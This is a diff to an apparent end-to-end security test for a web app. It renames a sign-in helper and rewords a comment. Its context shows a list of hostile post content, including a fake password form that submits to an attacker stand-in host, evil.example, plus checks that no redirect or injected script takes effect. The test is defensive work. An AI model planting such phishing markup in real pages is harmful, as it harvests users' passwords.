@@ -9,7 +9,7 @@
  * formatting is there (heading and its contents entry, list, links, quote).
  * Screenshot in e2e/screens/security-hostile-post-*.png.
  */
-import { DESKTOP, PHONE, assert, eventually, newPage, screenshot, waitForHydration, signInTo } from './lib.mjs'
+import { DESKTOP, PHONE, assert, eventually, newPage, screenshot, waitForHydration, openSignedIn } from './lib.mjs'
 
 const PASSWORD = 'Calma-demo-2026'
 
@@ -31,7 +31,7 @@ const HOSTILE = [
   '<form action="https://evil.example/"><input name="password" placeholder="Tu contraseña"></form>',
 ].join('\n')
 
-const signIn = (page, email, to) => signInTo(page, { email, password: PASSWORD, to })
+const signIn = (page, email, to) => openSignedIn(page, { email, password: PASSWORD, to })
 
 /** Everything the page asks for, every dialog, and any other host's request answered by nobody. */
 async function watch(page, origin) {
@@ -54,7 +54,7 @@ async function readSafely(page, seen, origin, path) {
   const res = await page.goto(path)
   assert.equal(res.status(), 200)
   await waitForHydration(page)
-  // The meta refresh said 1 s: give it more than that.
+  // A check that nothing happens: the meta refresh said 1 s, so more than that.
   await page.waitForTimeout(2000)
   assert.equal(new URL(page.url()).pathname, path, 'the reader stays on the page')
   assert.equal(await page.evaluate(() => window.__pwned), undefined, 'no hostile script ran')
